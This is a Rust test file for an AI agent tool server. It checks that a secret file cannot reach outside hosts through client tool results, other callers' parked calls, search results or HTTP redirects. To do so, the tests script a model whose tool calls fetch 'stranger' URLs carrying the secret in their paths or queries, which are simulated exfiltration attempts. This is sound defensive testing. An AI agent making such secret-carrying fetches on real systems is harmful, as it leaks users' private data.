//! The attack with a detour: the secret reaches the caller through a client's tool, another caller's call, or a search, or
//! is sent on by a redirect.

use serde_json::{Value, json};

use super::entrances::{attack, carry, configured, served_with_model};
use super::{BOTH_NEEDED, SECRET, has_secret, put_secret, questions, strangers};
use crate::loopback_service::LoopbackService;
use crate::scripted_model::Line;
use crate::serve::Served;

/// Talks to an agent that may call the client's tool `get_plan`, whose result is the secret, and answers its calls until
/// there are no more.
trait Talk {
    fn talk(&self, served: &Served, key: &str);
}

struct AgUi;
struct OpenAi;

impl Talk for AgUi {
    fn talk(&self, served: &Served, key: &str) {
        let tools =
            json!([{"name": "get_plan", "description": "The plan", "parameters": {"type": "object"}}]);
        let mut messages = vec![json!({"id": "m0", "role": "user", "content": "Go on."})];
        for run in 0.. {
            let input =
                json!({"threadId": "t", "runId": format!("r{run}"), "messages": messages, "tools": tools});
            let told = served.send("POST", "/agui/default", key, &input).is(200).body;
            let events = crate::serve::stream::events(&told);
            let calls = events
                .iter()
                .filter(|told| told.kind() == "TOOL_CALL_START" && told.event["toolCallName"] == "get_plan");
            let calls: Vec<&Value> = calls.map(|told| &told.event["toolCallId"]).collect();
            if calls.is_empty() {
                break;
            }
            for call in calls {
                messages.push(json!({"id": call, "role": "tool", "toolCallId": call, "content": SECRET}));
            }
        }
    }
}

impl Talk for OpenAi {
    fn talk(&self, served: &Served, key: &str) {
        let function = json!({"name": "get_plan", "parameters": {"type": "object", "properties": {}}});
        let tools = json!([{"type": "function", "function": function}]);
        let mut messages = vec![json!({"role": "user", "content": "Go on."})];
        loop {
            let body = json!({"model": "default", "messages": messages, "tools": tools});
            let reply = served.send("POST", "/v1/chat/completions", key, &body).is(200).json();
            let said = reply["choices"][0]["message"].clone();
            let Some(calls) = said["tool_calls"].as_array().cloned() else { break };
            messages.push(said);
            for call in calls {
                messages.push(json!({"role": "tool", "content": SECRET, "tool_call_id": call["id"]}));
            }
        }
    }
}

const WIRES: [&dyn Talk; 2] = [&AgUi, &OpenAi];

#[test]
fn results_of_client_tools_count_for_calls_of_the_server() {
    for wire in WIRES {
        let strangers = strangers();
        let served = served_with_model([Line::Calls("get_plan", json!({})), carry(&strangers)]);
        wire.talk(&served, &served.key("local", "chat"));
        assert!(!has_secret(&strangers), "the secret was sent unasked");
        assert_eq!(questions(&served.home).len(), 1, "{:?}", served.home.journal());
    }
}

#[test]
fn results_of_client_tools_do_not_make_further_client_calls_ask() {
    for wire in WIRES {
        let call = |day: u32| Line::Calls("get_plan", json!({"day": day}));
        let served = served_with_model([call(1), call(2), call(3), Line::says("Done.")]);
        wire.talk(&served, &served.key("local", "chat"));
        let journal = served.home.journal();
        assert_eq!(journal.len(), 3, "{journal:?}");
        assert!(journal.iter().all(|call| call["status"] == "done"), "{journal:?}");
    }
}

#[test]
fn a_parked_call_is_resumed_by_the_caller_that_made_it() {
    let home = configured();
    let rule =
        "[[rule]]\nid = \"see\"\neffect = \"ask\"\ntool = \"builtin:read_file\"\nreason = \"to see\"\n";
    let config = home.path().join("toolroom.toml");
    std::fs::write(&config, std::fs::read_to_string(&config).unwrap() + rule).unwrap();
    put_secret(&home);
    let served = Served::at(home);
    let (one, other) = (served.key("local", "call"), served.key("local", "call,approve"));
    let parked = served.call(&one, "read_file", &json!({"path": "plan.txt"})).is(202).json();
    let call = parked["call_id"].as_str().unwrap();
    served.send("POST", &format!("/v1/approvals/{call}"), &other, &json!({"answer": "once"})).is(200);
    let resume = |key: &str| served.send("POST", &format!("/v1/calls/{call}/resume"), key, &json!({}));
    resume(&other).refused(403, "forbidden");
    assert!(resume(&one).is(200).body.contains(SECRET));
}

#[test]
fn search_results_about_other_calls_count() {
    let (served, strangers) = (Served::at(configured()), strangers());
    let key = || served.key("local", "call");
    let (one, two, three) = (key(), key(), key());
    served.call(&one, "web_fetch", &json!({"url": strangers.url(&format!("/one-{SECRET}"))})).is(200);
    // Tools are not secret.
    let found = served.call(&two, "search", &json!({"query": "calculator"})).is(200).body;
    assert!(found.contains("builtin:calculator"), "{found}");
    served.call(&two, "web_fetch", &json!({"url": strangers.url("/two")})).is(200);
    let found = served.call(&three, "search", &json!({"query": "web_fetch one"})).is(200).body;
    assert!(found.contains(SECRET), "{found}");
    served.call(&three, "web_fetch", &json!({"url": strangers.url(&format!("/three-{SECRET}"))})).is(202);
    assert_eq!(strangers.told().len(), 2);
}

#[test]
fn an_answer_for_a_host_does_not_cover_its_redirects() {
    let far = strangers();
    let served = Served::configured(&BOTH_NEEDED.replace("[\"127", "[\"localhost\", \"127"));
    put_secret(&served.home);
    let to = far.url(&format!("/?d={SECRET}")).replace("127.0.0.1", "localhost");
    let near = LoopbackService::answering(&format!("302 Found\r\nLocation: {to}"), "");
    let key = served.key("local", "call,approve");
    let fetch = |tool: &str, address: &str| served.call(&key, tool, &json!({"url": address}));
    // Before anything was read, a redirect is followed.
    fetch("web_fetch", &near.url("/")).is(200);
    assert_eq!(far.told().len(), 1);
    served.call(&key, "read_file", &json!({"path": "plan.txt"})).is(200);
    let asked = fetch("web_fetch", &near.url("/")).is(202).json();
    let call = asked["call_id"].as_str().unwrap();
    served.send("POST", &format!("/v1/approvals/{call}"), &key, &json!({"answer": "once"})).is(200);
    let resumed = served.send("POST", &format!("/v1/calls/{call}/resume"), &key, &json!({})).body;
    assert!(resumed.contains("redirects to another host"), "{resumed}");
    assert_eq!((near.told().len(), far.told().len()), (2, 1));
}

#[test]
fn an_answer_in_a_conversation_does_not_cover_what_its_caller_has_read() {
    let host = strangers();
    let [fetch, read, (tool, carry)] = attack(&host);
    let script = [Line::Calls(fetch.0, fetch.1), Line::Calls(read.0, read.1), Line::says("Done.")];
    let served = served_with_model(script);
    put_secret(&served.home);
    let key = served.key("local", "chat,call,read,approve");
    let run = served.send("POST", "/v1/runs", &key, &json!({"message": "go", "wait": true})).is(200).json();
    let call = |conversation: Option<&str>| {
        let mut body = json!({"tool": tool, "arguments": carry});
        if let Some(conversation) = conversation {
            body["conversation"] = conversation.into();
        }
        served.send("POST", "/v1/calls", &key, &body)
    };
    let conversation = run["conversation"].as_str();
    let asked = call(conversation).is(202).json();
    let path = format!("/v1/approvals/{}", asked["call_id"].as_str().unwrap());
    served.send("POST", &path, &key, &json!({"answer": "once"})).is(200);
    call(conversation).is(200);
    // What the key itself reads later is judged separately.
    let [fetch, read, _] = attack(&host);
    for (tool, arguments) in [fetch, read] {
        served.call(&key, tool, &arguments).is(200);
    }
    call(None).is(202);
}
